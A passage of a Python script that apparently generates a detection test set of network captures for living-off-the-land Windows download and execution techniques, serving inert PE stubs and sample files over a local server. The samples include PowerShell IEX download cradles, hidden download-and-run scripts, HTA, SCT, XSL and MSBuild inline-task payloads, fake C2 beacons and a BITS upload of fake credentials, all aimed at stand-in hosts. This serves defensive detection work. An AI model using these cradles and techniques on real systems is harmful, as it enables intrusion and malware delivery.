    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + text + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b""))


def pe_checksum(data, off):
    s = 0
    for i in range(0, len(data), 2):
        if off <= i < off + 4:
            continue
        s += data[i] | ((data[i + 1] << 8) if i + 1 < len(data) else 0)
        s = (s & 0xFFFF) + (s >> 16)
    s = (s & 0xFFFF) + (s >> 16)
    return (s + len(data)) & 0xFFFFFFFF


def pe64(tag):
    """A small, structurally valid PE32+ console EXE for x86-64 (7168 bytes), as in
    make-http-set.sh; TAG goes into .rdata and seeds its filler, so every served PE differs.
    Entry point: xor eax,eax; ret.  It is never run."""
    HDR, TEXT, RDATA = 0x400, 0x1000, 0x800
    pe = bytearray(HDR + TEXT + RDATA)
    pe[0:2] = b"MZ"
    struct.pack_into("<13H", pe, 2, 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8, 0, 0, 0, 0x40, 0)
    struct.pack_into("<I", pe, 0x3C, 0x80)
    stub = (b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
            b"This program cannot be run in DOS mode.\r\r\n$")
    pe[0x40:0x40 + len(stub)] = stub
    pe[0x80:0x84] = b"PE\0\0"
    struct.pack_into("<HHIIIHH", pe, 0x84, 0x8664, 2, 0x65920080, 0, 0, 0xF0, 0x0022)
    o = 0x98
    struct.pack_into("<HBBIIIII", pe, o, 0x20B, 14, 36, TEXT, RDATA, 0, 0x1000, 0x1000)
    struct.pack_into("<Q", pe, o + 24, 0x140000000)
    struct.pack_into("<II", pe, o + 32, 0x1000, 0x200)
    struct.pack_into("<HHHHHH", pe, o + 40, 6, 0, 0, 0, 6, 0)
    struct.pack_into("<III", pe, o + 52, 0, 0x3000, HDR)
    struct.pack_into("<HH", pe, o + 68, 3, 0x8160)
    struct.pack_into("<QQQQII", pe, o + 72, 0x100000, 0x1000, 0x100000, 0x1000, 0, 16)
    sec = o + 0xF0
    struct.pack_into("<8sIIIIIIHHI", pe, sec, b".text", TEXT, 0x1000, TEXT, HDR, 0, 0, 0, 0, 0x60000020)
    struct.pack_into("<8sIIIIIIHHI", pe, sec + 40, b".rdata", RDATA, 0x2000, RDATA, HDR + TEXT,
                     0, 0, 0, 0, 0x40000040)
    code = b"\x31\xc0\xc3"
    pe[HDR:HDR + TEXT] = code + b"\xcc" * (TEXT - len(code))
    text = ("lolwire detection test set (%s): a harmless PE32+ that is never run.\0" % tag).encode()
    pe[HDR + TEXT:HDR + TEXT + RDATA] = text + stream("pe:" + tag, RDATA - len(text))
    struct.pack_into("<I", pe, o + 64, pe_checksum(pe, o + 64))
    return bytes(pe)


# Compound File Binary (MS-CFB) v3 writer, just enough for one small stream: header, one FAT
# sector, one directory sector, one mini-FAT sector, the mini stream.
FREESECT, ENDOFCHAIN, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
MST_CLSID = uuid.UUID("000C1082-0000-0000-C000-000000000046").bytes_le   # 82 10 0C 00 00 00 00 00 C0 00 … 46


def cfb_dirent(name, kind, color, left, right, child, clsid, start, size):
    n = name.encode("utf-16-le") + b"\0\0" if name else b""
    e = bytearray(128)
    e[0:len(n)] = n
    struct.pack_into("<HBBIII", e, 64, len(n), kind, color, left, right, child)
    e[80:96] = clsid                                         # then state bits, times: zero
    struct.pack_into("<IQ", e, 116, start, size)
    return bytes(e)


def cfb_one_stream(root_clsid, name, data):
    assert len(data) <= 512 and len(data) < 4096          # one sector of mini stream
    nmini = (len(data) + 63) // 64
    hdr = bytearray(512)
    hdr[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHHHH", hdr, 24, 0x003E, 0x0003, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", hdr, 40, 0, 1, 1, 0, 4096, 2, 1, ENDOFCHAIN, 0)
    difat = [0] + [FREESECT] * 108
    struct.pack_into("<109I", hdr, 76, *difat)
    fat = [FATSECT, ENDOFCHAIN, ENDOFCHAIN, ENDOFCHAIN] + [FREESECT] * 124
    minifat = [i + 1 for i in range(nmini - 1)] + [ENDOFCHAIN] + [FREESECT] * (128 - nmini)
    d = (cfb_dirent("Root Entry", 5, 1, NOSTREAM, NOSTREAM, 1, root_clsid, 3, nmini * 64)
         + cfb_dirent(name, 2, 1, NOSTREAM, NOSTREAM, NOSTREAM, bytes(16), 0, len(data))
         + cfb_dirent("", 0, 0, NOSTREAM, NOSTREAM, NOSTREAM, bytes(16), 0, 0) * 2)
    mini = data + bytes(512 - len(data))
    return (bytes(hdr) + struct.pack("<128I", *fat) + d + struct.pack("<128I", *minifat) + mini)


def summary_information(props):
    """A SummaryInformation property set stream (MS-OLEPS): props is [(pid, vt, value)]."""
    body, offsets = b"", []
    base = 8 + 8 * len(props)
    for pid, vt, val in props:
        offsets.append((pid, base + len(body)))
        if vt == 2:                                          # VT_I2
            v = struct.pack("<Hxxhxx", vt, val)
        elif vt == 3:                                        # VT_I4
            v = struct.pack("<Hxxi", vt, val)
        else:                                                # VT_LPSTR, code page 1252
            s = val.encode("cp1252") + b"\0"
            s += b"\0" * (-len(s) % 4)
            v = struct.pack("<HxxI", vt, len(val) + 1) + s
        body += v
    section = struct.pack("<II", base + len(body), len(props))
    section += b"".join(struct.pack("<II", p, o) for p, o in offsets) + body
    fmtid = uuid.UUID("F29F85E0-4FF9-1068-AB91-08002B27B3D9").bytes_le
    return (struct.pack("<HHI", 0xFFFE, 0, 0x00020006) + bytes(16) + struct.pack("<I", 1)
            + fmtid + struct.pack("<I", 48) + section)


def mst():
    """A minimal MSI transform: CFB v3 whose root CLSID is the transform CLSID, holding the
    \\x05SummaryInformation stream a transform carries (Title "Transform", target and
    upgrade codes in the revision number, validation flags in the character count)."""
    product = "{8B1D5C36-7C0E-4E8A-9F3B-2D4A6E1C9B71}"
    si = summary_information([
        (1, 2, 1252),                                        # PID_CODEPAGE
        (2, 0x1E, "Transform"),                              # PID_TITLE
        (3, 0x1E, "Example Updater"),                        # PID_SUBJECT
        (4, 0x1E, "Example Corp"),                           # PID_AUTHOR
        (7, 0x1E, "Intel;1033"),                             # PID_TEMPLATE: target platform;language
        (8, 0x1E, "Intel;1033"),                             # PID_LASTAUTHOR: transform platform;language
        (9, 0x1E, "%s1.0.0;%s1.0.0;{C4A3F0B2-51D7-4B9E-8E2A-7F60D3B1A846}" % (product, product)),
        (14, 3, 200),                                        # PID_PAGECOUNT
        (16, 3, 0x00000022),                                 # PID_CHARCOUNT: validation flags
    ])
    return cfb_one_stream(MST_CLSID, "\x05SummaryInformation", si)


HTA = ('<html>\n<head>\n<title>{title}</title>\n'
       '<HTA:APPLICATION ID="oApp" APPLICATIONNAME="{app}" BORDER="none" SHOWINTASKBAR="no" '
       'WINDOWSTATE="minimize"/>\n<script language="VBScript">\nSub Window_OnLoad\n'
       '  Set sh = CreateObject("WScript.Shell")\n  sh.Run "powershell -nop -w hidden -c ""IEX '
       '(New-Object Net.WebClient).DownloadString(\'http://{host}/s/run.ps1\')""", 0, False\n'
       '  self.close\nEnd Sub\n</script>\n</head>\n<body></body>\n</html>\n')
SCT = ('<?XML version="1.0"?>\n<scriptlet>\n<registration description="{d}" progid="{d}" '
       'version="1.00" classid="{{{c}}}">\n<script language="JScript">\n<![CDATA[\n'
       '  var r = new ActiveXObject("WScript.Shell").Run("calc.exe");\n]]>\n</script>\n'
       '</registration>\n</scriptlet>\n')
XSL = ('<?xml version="1.0"?>\n'
       '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"\n'
       '    xmlns:{p}="urn:schemas-microsoft-com:xslt" xmlns:user="http://example.com/user">\n'
       '<{p}:script language="JScript" implements-prefix="user">\n<![CDATA[\n'
       'function run() {{ var r = new ActiveXObject("WScript.Shell").Run("calc.exe"); '
       'return ""; }}\n]]>\n</{p}:script>\n'
       '<xsl:template match="/"><xsl:value-of select="user:run()"/></xsl:template>\n'
       '</xsl:stylesheet>\n')
CSPROJ = ('<Project ToolsVersion="4.0" xmlns="http://schemas.microsoft.com/developer/msbuild/2003">\n'
          '  <Target Name="Build">\n    <ClassExample />\n  </Target>\n'
          '  <UsingTask TaskName="ClassExample" TaskFactory="CodeTaskFactory" '
          'AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.v4.0.dll">\n'
          '    <Task>\n      <Code Type="Class" Language="cs">\n      <![CDATA[\n'
          '        using System;\n        using Microsoft.Build.Framework;\n'
          '        using Microsoft.Build.Utilities;\n'
          '        public class ClassExample : Task, ITask\n        {\n'
          '            public override bool Execute()\n            {\n'
          '                System.Diagnostics.Process.Start("calc.exe");\n'
          '                return true;\n            }\n        }\n      ]]>\n'
          '      </Code>\n    </Task>\n  </UsingTask>\n</Project>\n')


def propfind(entries):
    out = '<?xml version="1.0" encoding="utf-8"?>\n<D:multistatus xmlns:D="DAV:">\n'
    for href, coll, size in entries:
        out += ('<D:response><D:href>%s</D:href><D:propstat><D:prop>'
                '<D:resourcetype>%s</D:resourcetype>%s'
                '<D:getlastmodified>%s</D:getlastmodified>'
                '<D:creationdate>2024-01-01T00:00:00Z</D:creationdate>'
                '</D:prop><D:status>HTTP/1.1 200 OK</D:status></D:propstat></D:response>\n'
                % (href, "<D:collection/>" if coll else "",
                   "" if coll else "<D:getcontentlength>%d</D:getcontentlength>" % size, LAST_MODIFIED))
    return out + "</D:multistatus>\n"


def build(tmp):
    www = os.path.join(tmp, "www")
    req = os.path.join(tmp, "req")

    def put(name, data, where=www):
        with open(os.path.join(where, name), "wb") as f:
            f.write(data if isinstance(data, bytes) else data.encode())

    for tag in ("ieexec", "nc", "nc2", "agent", "tool-ps7", "stage2", "m", "implant", "python", "mp",
                "logo", "duckdns", "get", "am_delta"):
        put("pe-%s.exe" % tag, pe64(tag))
    put("custom.mst", mst())
    put("a.ps1", "$s = 'JAB3AGMAIAA9ACAATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQA'\r\n"
                 "$d = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($s))\r\n"
                 "IEX (New-Object Net.WebClient).DownloadString('http://dl.toolsmirror.example.net/s2.ps1')\r\n")
    host = "news.example-portal.com"
    put("app.hta", HTA.format(title="Update", app="Updater", host=host))
    put("news.html", HTA.format(title="News", app="NewsReader", host=host).replace("HTA:APPLICATION", "hta:application"))
    put("invoice.txt", HTA.format(title="Invoice 2024-0117", app="Invoice", host=host))
    put("r.sct", SCT.format(d="Updater", c="F0001111-0000-0000-0000-0000FEEDACDC"))
    put("image.jpg", SCT.format(d="Thumbnail", c="A1B2C3D4-0000-0000-0000-0000FEEDACDC"))
    put("f.xsl", XSL.format(p="msxsl"))
    put("list.xml", XSL.format(p="ms"))
    put("project.xml", CSPROJ)
    put("readme-xyz.txt", "Agent update 4.2.1\r\nRun setup.cmd as administrator.\r\n")
    put("run.ps1", "$ErrorActionPreference = 'SilentlyContinue'\r\n"
                   "$u = 'http://scripts.example-tools.net/s/tool.exe'\r\n"
                   "$p = \"$env:TEMP\\svchost-update.exe\"\r\n"
                   "(New-Object System.Net.WebClient).DownloadFile($u, $p)\r\n"
                   "Start-Process -WindowStyle Hidden -FilePath $p\r\n"
                   "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.10/s/stage.ps1')\r\n")
    put("notes.txt", "powershell -nop -w hidden -c \"IEX (iwr -UseBasicParsing "
                     "'http://assets.example-media.com/build/project.xml').Content\"\r\n"
                     "iex ((New-Object Net.WebClient).DownloadString('http://198.51.100.10/a'))\r\n")
    put("paste.ps1", "$c = New-Object System.Net.WebClient\r\n"
                     "$b = $c.DownloadData('http://203.0.113.50/get.exe')\r\n"
                     "[IO.File]::WriteAllBytes(\"$env:APPDATA\\upd.exe\", $b)\r\n"
                     "Start-Process \"$env:APPDATA\\upd.exe\"\r\n")
    put("config.txt", "[Connection Manager]\r\nCMSFile=evil.cms\r\nServiceName=Corp VPN\r\n"
                      "TunnelFile=evil.cms\r\n[Settings]\r\nUpdateURL=http://vpn.example-tools.net/vpn/\r\n")
    put("certreq-reply.txt", "-----BEGIN DATA-----\r\nc3RhZ2UgMiBpbnN0cnVjdGlvbnM6IHNsZWVwIDYw\r\n-----END DATA-----\r\n")
    put("propfind-dir.xml", propfind([("http://dav.example-files.com/webdav/", True, 0),
                                      ("http://dav.example-files.com/webdav/python.exe", False, 7168)]))
    put("propfind-file.xml", propfind([("http://dav.example-files.com/webdav/python.exe", False, 7168)]))
    put("gate-post.txt", "OK\n")
    put("gate-get.txt", "sleep 60\n")
    put("do.bin", stream("do", 12288))
    put("photo.png", png(96, 64, "photo"))
    put("index.html", '<!DOCTYPE html>\n<html lang="en">\n<head><meta charset="utf-8">'
                      '<title>Example Domain</title>\n<link rel="alternate" type="application/rss+xml" '
                      'href="/feed.rss"></head>\n<body>\n<h1>Example Domain</h1>\n'
                      '<p><img src="/images/photo.png" alt="photo"></p>\n<ul>\n'
                      '<li><a href="/downloads/archive.zip">archive.zip</a></li>\n'
                      '<li><a href="/files/report.doc">report.doc</a></li>\n</ul>\n</body>\n</html>\n')
    put("feed.rss", '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0">\n<channel>\n'
                    '<title>Example News</title>\n<link>http://www.example.com/</link>\n'
                    '<description>Example feed</description>\n<lastBuildDate>' + LAST_MODIFIED +
                    '</lastBuildDate>\n' + "".join(
                        '<item><title>Item %d</title><link>http://www.example.com/news/%d.html</link>'
                        '<guid>http://www.example.com/news/%d.html</guid><pubDate>%s</pubDate></item>\n'
                        % (i, i, i, LAST_MODIFIED) for i in range(1, 6)) + '</channel>\n</rss>\n')
    import xlwt
    wb = xlwt.Workbook(encoding="utf-8")
    ws = wb.add_sheet("Report")
    for col, head in enumerate(("Quarter", "Region", "Revenue")):
        ws.write(0, col, head)
    for i in range(1, 9):
        ws.write(i, 0, "Q%d" % ((i - 1) % 4 + 1))
        ws.write(i, 1, ("North", "South")[i % 2])
        ws.write(i, 2, 1000.25 * i)
    wb.save(os.path.join(www, "report.doc"))
    # Request bodies.
    put("bits-fragment.txt", "".join("site-%02d.example.com\tadmin\tPassw0rd-%02d!\n" % (i, i)
                                     for i in range(12)), req)
    put("certreq.json", json.dumps({"host": "WS-0142", "user": "alice",
                                    "data": "W2ZvbnRzXQ0KW2V4dGVuc2lvbnNdDQpbbWNpIGV4dGVuc2lvbnNdDQo="},
                                   separators=(",", ":")), req)
    put("gate-form.txt", "id=WS-0142&os=10.0.19045&av=1&ver=2.3", req)
    # Inputs for the shell: ZIPs and CABs.
    for d in ("zip-tool", "zip-data", "zip-archive", "cab-wu"):
        os.makedirs(os.path.join(tmp, d), exist_ok=True)
    put("tool.exe", pe64("zip-tool"), os.path.join(tmp, "zip-tool"))
    put("README.txt", "tool 1.0 - run tool.exe\r\n", os.path.join(tmp, "zip-tool"))
    put("agent.exe", pe64("zip-data"), os.path.join(tmp, "zip-data"))
    put("agent.cfg", "server=198.51.100.20\r\ninterval=300\r\n", os.path.join(tmp, "zip-data"))
    for i, name in enumerate(("readme.txt", "changelog.txt", "licence.txt")):
        put(name, "".join("%s line %03d: plain text, nothing executable.\n" % (name, j)
                          for j in range(20 + 10 * i)), os.path.join(tmp, "zip-archive"))
    put("update.mum", '<?xml version="1.0" encoding="UTF-8"?>\r\n<assembly xmlns="urn:schemas-microsoft-com:asm.v3" '
                      'manifestVersion="1.0"><assemblyIdentity name="Package_for_KB5034441" '
                      'version="10.0.1.0" processorArchitecture="amd64" language="neutral"/></assembly>\r\n',
        os.path.join(tmp, "cab-wu"))
    put("payload.dat", stream("wu", 20000), os.path.join(tmp, "cab-wu"))


# --------------------------------------------------------------------------- CA helpers
def der_len(n):
    if n < 0x80:
        return bytes((n,))
    b = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes((0x80 | len(b),)) + b


def der(tag, content):
    return bytes((tag,)) + der_len(len(content)) + content


def der_int(v):
    b = v.to_bytes(v.bit_length() // 8 + 1, "big")
    return der(0x02, b)


def der_oid(dotted):
    parts = [int(x) for x in dotted.split(".")]
    out = bytes((40 * parts[0] + parts[1],))
    for p in parts[2:]:
        enc = [p & 0x7F]
        p >>= 7
        while p:
            enc.append(0x80 | (p & 0x7F))
            p >>= 7
        out += bytes(reversed(enc))
    return der(0x06, out)


def rsa_key(seed, out):
    """A deterministic RSA-2048 key (so CRL, OCSP and the signed CTL have the same bytes on
    every run; RSA PKCS#1 v1.5 signatures are deterministic).  Test-only, never secret."""
    rnd = random.Random("lolwire-ca:" + seed)
    small = [p for p in range(3, 2000, 2) if all(p % q for q in range(3, int(p ** 0.5) + 1, 2))]

    def probable_prime(n):
        if any(n % p == 0 for p in small):
            return False
        d, s = n - 1, 0
        while d % 2 == 0:
            d, s = d // 2, s + 1
        w = random.Random(n)
        for _ in range(40):
            x = pow(w.randrange(2, n - 2), d, n)
            if x in (1, n - 1):
                continue
            for _ in range(s - 1):
                x = pow(x, 2, n)
                if x == n - 1:
                    break
            else:
                return False
        return True

    e = 65537

    def prime():
        while True:
            c = rnd.getrandbits(1024) | (3 << 1022) | 1
            if (c - 1) % e and probable_prime(c):
                return c
    p, q = prime(), prime()
    if p < q:
        p, q = q, p
    n = p * q
    lam = (p - 1) * (q - 1) // __import__("math").gcd(p - 1, q - 1)
    d = pow(e, -1, lam)
    key = der(0x30, b"".join(der_int(v) for v in (0, n, e, d, p, q, d % (p - 1), d % (q - 1), pow(q, -1, p))))
    import base64
    b64 = base64.b64encode(key).decode()
    with open(out, "w") as f:
        f.write("-----BEGIN RSA PRIVATE KEY-----\n")
        f.write("".join(b64[i:i + 64] + "\n" for i in range(0, len(b64), 64)))
        f.write("-----END RSA PRIVATE KEY-----\n")


def ctl(ca_der_path, out):
    """CertificateTrustList (the signed content of authroot.stl): usage szOID_ROOT_LIST_SIGNER,
    a sequence number, this-update 2024-01-01, SHA-1 subject algorithm, one trusted subject
    (the test CA's SHA-1 thumbprint with a friendly-name attribute)."""
    ca = open(ca_der_path, "rb").read()
    friendly = der(0x04, "Example Test Root CA\0".encode("utf-16-le"))
    subject = der(0x30, der(0x04, hashlib.sha1(ca).digest())
                  + der(0x31, der(0x30, der_oid("1.3.6.1.4.1.311.10.11.11") + der(0x31, friendly))))
    body = (der(0x30, der_oid("1.3.6.1.4.1.311.10.3.9"))
            + der(0x04, b"lolwire-authroot")
            + der_int(0x1D9A40C0DE)
            + der(0x17, b"240101000000Z")
            + der(0x30, der_oid("1.3.14.3.2.26") + b"\x05\x00")
            + der(0x30, subject))
    with open(out, "wb") as f:
        f.write(der(0x30, body))


# --------------------------------------------------------------------------- expectations
def www_file(tmp, name):
    with open(os.path.join(tmp, "www", name), "rb") as f:
        return f.read()


def req_body(tmp, r):
    if r.data is None:
        return None
    if r.data == "":
        return b""
    with open(os.path.join(tmp, "req", r.data), "rb") as f:
        return f.read()


def range_slice(body, a, b):
    return body[a:(len(body) if b is None else b + 1)]


def concrete_range(tmp, r):
    """r.rng with an end of -1 (the last byte, as BITS asks after its HEAD) made explicit."""
    a, b = r.rng
    return (a, len(www_file(tmp, r.body)) - 1 if b == -1 else b)


def expected_body(tmp, r):
    """The response body the client receives (decoded), or None for no body."""
    if r.method in ("HEAD", "OPTIONS", "TLS", "BITS_POST") or r.body is None:
        return None
    data = www_file(tmp, r.body)
    return range_slice(data, *concrete_range(tmp, r)) if r.rng else data


def hash_lines(tmp):
    """<sha256>  <capture>  <METHOD> http://host/uri[#suffix]; '#request' for request bodies."""
    seen, out = set(), []
    for r in ROWS:
        items = []
        b = expected_body(tmp, r)
        if b is not None:
            s = ""
            if r.rng:
                s = "#bytes=%d-%d" % concrete_range(tmp, r)
            items.append((b, s))
        q = req_body(tmp, r)
        if q:
            items.append((q, "#request"))
        for data, s in items:
            line = "%s  %s.pcap  %s %s%s" % (sha(data), r.cap, r.method, r.url(), s)
            if line not in seen:
                seen.add(line)
                out.append(line)
    return out


def manifest():
    out = ["capture\tmethod\thost\turi\tuser_agent\texpect\tnote\ttechnique\tdescription"]
    for r in ROWS:
        out.append("\t".join((r.cap + ".pcap", r.method, r.host, r.uri, r.ua or "-", r.expect,
                              r.note, r.tech, r.desc)))
    return "\n".join(out) + "\n"


# --------------------------------------------------------------------------- server
class Conn:
    def __init__(self, sock):
        self.s, self.buf = sock, b""

    def more(self):
        d = self.s.recv(65536)
        if not d:
            raise EOFError
        self.buf += d

    def head(self):
        while b"\r\n\r\n" not in self.buf:
            try:
                self.more()
            except EOFError:
                if self.buf:
                    raise
                return None
        raw, self.buf = self.buf.split(b"\r\n\r\n", 1)
        lines = raw.decode("latin-1").split("\r\n")
        hdrs = {}
        for line in lines[1:]:
            k, _, v = line.partition(":")
            hdrs[k.strip().lower()] = v.strip()
        return lines[0], hdrs

    def body(self, n):
        while len(self.buf) < n:
            self.more()
        b, self.buf = self.buf[:n], self.buf[n:]
        return b

    def send(self, data, pause=0.0):
        self.s.sendall(data)
        if pause:
            time.sleep(pause)


def head_bytes(status_line, headers):
    base = [("Date", email.utils.formatdate(usegmt=True)), ("Server", SERVER)]
    return ("\r\n".join([status_line] + ["%s: %s" % kv for kv in base + headers])
            + "\r\n\r\n").encode("latin-1")


REASON = {200: "OK", 206: "Partial Content", 207: "Multi-Status", 404: "Not Found", 416: "Range Not Satisfiable"}


def close_gently(sock):
    """FIN, then read what the peer still sends until its FIN, so close() sends no RST."""
    try:
        sock.shutdown(socket.SHUT_WR)
        sock.settimeout(2)
        while sock.recv(65536):
            pass
    except OSError:
        pass
    sock.close()


class Handler(socketserver.BaseRequestHandler):
    tmp = "."
    route = {}

    def handle(self):
        self.request.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        c = Conn(self.request)
        try:
            while True:
                r = c.head()
                if r is None:
                    break
                if not self.dispatch(c, *r):
                    break
        except (EOFError, ConnectionError):
            pass
        finally:
            close_gently(self.request)

    def dispatch(self, c, reqline, h):
        method, target, version = reqline.split(" ", 2)
        conn = h.get("connection", "").lower()
        keep = (version == "HTTP/1.1" and conn != "close") or conn == "keep-alive"
        body = c.body(int(h.get("content-length", "0")))
        r = self.route.get((method, h.get("host", ""), target))
        st = "HTTP/1.1 %d %s"
        if r is None:
            msg = b"not found\n"
            c.send(head_bytes(st % (404, REASON[404]), [("Content-Type", "text/plain"),
                                                         ("Content-Length", len(msg))]) + msg)
            return keep
        extra = [tuple(x.split(": ", 1)) for x in r.resp]
        if method == "BITS_POST":                            # BITS upload protocol 1.5
            kind = h.get("bits-packet-type", "")
            hs = [("BITS-Packet-Type", "Ack")]
            if kind == "Create-Session":
                hs += [("BITS-Protocol", BITS_PROTOCOL), ("BITS-Session-Id", BITS_SESSION),
                       ("Accept-Encoding", "Identity")]
            elif kind == "Fragment":
                total = int(h["content-range"].rsplit("/", 1)[1])
                hs += [("BITS-Session-Id", BITS_SESSION), ("BITS-Received-Content-Range", total)]
            else:
                hs += [("BITS-Session-Id", BITS_SESSION)]
            c.send(head_bytes(st % (200, "OK"), hs + [("Content-Length", 0)]))
            return keep
        if method == "OPTIONS":                              # WebDAV server capabilities
            c.send(head_bytes(st % (200, "OK"), [
                ("Allow", "OPTIONS, GET, HEAD, PROPFIND"), ("DAV", "1,2"), ("MS-Author-Via", "DAV"),
                ("Content-Length", 0)]))
            return keep
        data = www_file(self.tmp, r.body)
        common = [("Last-Modified", LAST_MODIFIED), ("ETag", '"%s"' % sha(data)[:16]),
                  ("Accept-Ranges", "bytes")] if method in ("GET", "HEAD") else []
        if r.enc == "gzip-chunked":                          # WinINet asked for gzip
            gz = gzip.compress(data, compresslevel=9, mtime=0)
            c.send(head_bytes(st % (200, "OK"), [
                ("Content-Type", r.ctype), ("Content-Encoding", "gzip"), ("Vary", "Accept-Encoding"),
                ("Transfer-Encoding", "chunked")] + common + extra), 0.02)
            third = len(gz) // 3
            for part in (gz[:third], gz[third:2 * third], gz[2 * third:]):
                c.send(b"%x\r\n" % len(part) + part + b"\r\n", 0.02)
            c.send(b"0\r\n\r\n")
            return keep
        status, out = r.status, data
        if method == "GET" and h.get("range", "").startswith("bytes="):
            a, _, b = h["range"][6:].partition("-")
            a, b = int(a), (int(b) if b else None)
            out = range_slice(data, a, b)
            common.append(("Content-Range", "bytes %d-%d/%d" % (a, a + len(out) - 1, len(data))))
            status = 206
        hdr = head_bytes(st % (status, REASON[status]), [("Content-Type", r.ctype), ("Content-Length", len(out))]
                         + common + extra)
        c.send(hdr if method == "HEAD" else hdr + out)
        return keep


class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


def serve(tmp, ports):
    resolve_ocsp(os.path.join(tmp, "www"))
    Handler.tmp = tmp
    for r in ROWS:
        if r.method != "TLS":
            Handler.route.setdefault(r.key(), r)
    servers = [Server(("0.0.0.0", int(p)), Handler) for p in ports.split(",")]
    for s in servers[1:]:
        threading.Thread(target=s.serve_forever, daemon=True).start()
    servers[0].serve_forever()


# --------------------------------------------------------------------------- clients
def headers_of(r):
    """Request headers for curl -H: the profile's, with the row's replacing same-name ones."""
    base = PROFILES[r.prof][1]
    names = {h.split(":", 1)[0].lower() for h in r.hdrs}
    return [h for h in base if h.split(":", 1)[0].lower() not in names] + r.hdrs


def log(msg):
    print("make-detect-set:   " + msg, file=sys.stderr)


def fail(msg):
    log("error: " + msg)
    sys.exit(1)


def netns(ns, *cmd):
    return ["ip", "netns", "exec", ns] + list(cmd)


def run_curl(tmp, rs):
    got = os.path.join(tmp, "got")
    args, outs = [], []
    for i, r in enumerate(rs):
        out = os.path.join(got, "%s-%d-%d" % (r.cap, r.conn, i))
        outs.append(out)
        a = ["-sS", "-o", out, "-w", r"%{http_code}\t%{content_type}\t%{num_connects}\n"]
        if r.hostname in IP_OF:
            a += ["--resolve", "%s:%d:%s" % (r.hostname, r.port, r.ip)]
        a += ["-A", r.ua] if r.ua else ["-H", "User-Agent:"]
        hs = headers_of(r)
        for h in hs:
            a += ["-H", h]
        if any(h.lower().startswith("accept-encoding:") and "gzip" in h for h in hs):
            a.append("--compressed")
        if r.rng:
            a += ["-r", "%d-%d" % concrete_range(tmp, r)]
        if r.method == "HEAD":
            a.append("-I")
        elif r.method != "GET" or r.data is not None:
            if r.method != "POST":
                a += ["-X", r.method]
            if r.data is not None:
                path = os.path.join(tmp, "req", r.data) if r.data else None
                a += ["--data-binary", "@" + path if path else ""]
                a += ["-H", "Content-Type: " + r.data_ctype if r.data_ctype else "Content-Type:"]
                if r.data and "BITS-Packet-Type: Fragment" in r.hdrs:
                    n = os.path.getsize(path)
                    a += ["-H", "Content-Range: bytes 0-%d/%d" % (n - 1, n)]
        a.append(r.url())
        if i:
            args.append("--next")
        args += a
    p = subprocess.run(netns(NS_C, "curl", *args), capture_output=True, text=True)
    if p.returncode != 0:
        fail("curl exit %d: %s" % (p.returncode, p.stderr.strip()))
    lines = p.stdout.splitlines()
    if len(lines) != len(rs):
        fail("curl printed %d results for %d transfers" % (len(lines), len(rs)))
    for i, (r, line, out) in enumerate(zip(rs, lines, outs)):
        code, ctype, nconn = line.split("\t")
        if int(code) != r.status:
            fail("%s %s: status %s, want %d" % (r.method, r.url(), code, r.status))
        if (r.ctype or "") != ctype and r.method not in ("OPTIONS", "BITS_POST"):
            fail("%s %s: Content-Type %r, want %r" % (r.method, r.url(), ctype, r.ctype))
        if i and nconn != "0":
            fail("%s %s: curl opened a new connection" % (r.method, r.url()))
        want = expected_body(tmp, r)
        got_b = open(out, "rb").read() if os.path.exists(out) else b""
        if want is not None and got_b != want:
            fail("%s %s: received body differs (%d bytes, want %d)" % (r.method, r.url(), len(got_b), len(want)))
        log("%-9s %-28s %-40.40s %s" % (r.method, r.host, r.uri, code))


def read_response(sock, buf):
    while b"\r\n\r\n" not in buf:
        d = sock.recv(65536)
        if not d:
            raise EOFError("connection closed inside a header")
        buf += d
    raw, buf = buf.split(b"\r\n\r\n", 1)
    lines = raw.decode("latin-1").split("\r\n")
    hdrs = {k.strip().lower(): v.strip() for k, _, v in (l.partition(":") for l in lines[1:])}
    n = int(hdrs.get("content-length", "0"))
    while len(buf) < n:
        d = sock.recv(65536)
        if not d:
            raise EOFError("connection closed inside a body")
        buf += d
    return lines[0], hdrs, buf[:n], buf[n:]


def raw_client(tmp, cap, conn):
    """Byte-exact requests (the .NET WebClient sends no User-Agent and no Accept)."""
    rs = groups(cap)[int(conn)]
    s = socket.create_connection((rs[0].ip, rs[0].port), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    buf, ok = b"", True
    for r in rs:
        lines = ["%s %s HTTP/1.1" % (r.method, r.uri), "Host: " + r.host]
        if r.ua:
            lines.append("User-Agent: " + r.ua)
        lines += headers_of(r)
        s.sendall(("\r\n".join(lines) + "\r\n\r\n").encode("latin-1"))
        status, hdrs, body, buf = read_response(s, buf)
        good = status == "HTTP/1.1 %d %s" % (r.status, REASON[r.status]) and body == expected_body(tmp, r)
        ok &= good
        log("%-9s %-28s %-40.40s %s (raw socket)%s" % (r.method, r.host, r.uri, status.split()[1],
                                                     "" if good else " MISMATCH"))
    close_gently(s)
    sys.exit(0 if ok else 1)


def run_tls(tmp, r):
    """openssl s_client -> openssl s_server (-rev: replies with the line reversed)."""
    d = os.path.join(tmp, "tls")
    srv_log = open(os.path.join(tmp, "s_server-%s.log" % r.host), "w")
    srv = subprocess.Popen(netns(NS_S, "openssl", "s_server", "-accept", "%s:443" % r.ip,
                                 "-cert", os.path.join(d, r.host + ".crt"), "-key", os.path.join(d, r.host + ".key"),
